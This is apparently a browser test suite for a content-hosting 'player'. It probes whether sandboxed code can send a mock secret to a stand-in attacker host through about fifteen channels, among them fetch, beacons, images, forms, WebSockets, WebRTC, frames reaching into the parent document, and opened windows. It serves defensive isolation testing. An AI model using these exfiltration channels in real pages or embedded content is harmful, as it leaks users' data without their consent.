import { frameAt, loaded, make, probe, wait } from './probes.js'

/* To the world outside. What arrived there is seen there: stage.arrived(name). */

const sent = async (name, attempt, ms = 500) => {
  await Promise.resolve(attempt(`${stage.evil}/${name}?secret=1`)).catch(() => undefined)
  await wait(ms)
  return stage.arrived(name)
}

probe('sends data away by fetch', () => sent('fetch', (url) => fetch(url, { mode: 'no-cors' })))

probe('sends data away by fetch from the document of the player', () =>
  sent('player-fetch', (url) => top.fetch(url, { mode: 'no-cors' })),
)

probe('sends data away by a beacon', () => sent('beacon', (url) => navigator.sendBeacon(url, 'x')))

probe('sends data away in the address of a picture', () =>
  sent('image', (src) => loaded(make('img', { src }))),
)

probe('sends data away in the address of a style sheet', () =>
  sent('style', (href) => loaded(make('link', { rel: 'stylesheet', href }))),
)

probe('loads a script from another server', () =>
  sent('script', (src) => loaded(make('script', { src }))),
)

probe('sends data away by a form', () =>
  sent('form', (action) => {
    const form = make('form', { action, target: '_blank' })
    document.body.append(form)
    form.submit()
  }),
)

probe('sends data away by a WebSocket', () =>
  sent('socket', (url) => new WebSocket(url.replace('http', 'ws')) && undefined),
)

probe('sends data away by prefetching', () =>
  sent('prefetch', (href) => loaded(make('link', { rel: 'prefetch', href }))),
)

probe('sends data away in a frame of its own', () => sent('frame', (url) => frameAt(url)))

probe('sends data away in a frame that the player holds', () =>
  sent('player-frame', (src) => {
    top.document.body.append(Object.assign(top.document.createElement('iframe'), { src }))
  }),
)

probe('sends data away in the names that it connects to (preconnect)', async () => {
  document.head.append(make('link', { rel: 'preconnect', href: stage.quietEvil }))
  await wait(800)
  return stage.isConnected()
})

probe('sends data away by WebRTC', async () => {
  const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${stage.stun}` }] })
  connection.createDataChannel('x')
  await connection.setLocalDescription(await connection.createOffer())
  await wait(1_200)
  return stage.isStunned()
})

probe('sends data away in the address of a window that it opens', () =>
  sent('window', (url) => open(url) && undefined, 800),
)

probe('tells another server its address (Referer)', () => stage.referrer('window'))

probe('sends data away by leading its own frame elsewhere', async () => {
  const frame = await frameAt('empty.html')
  frame.contentWindow.location.href = `${stage.evil}/self`
  await wait(600)
  return stage.arrived('self')
})
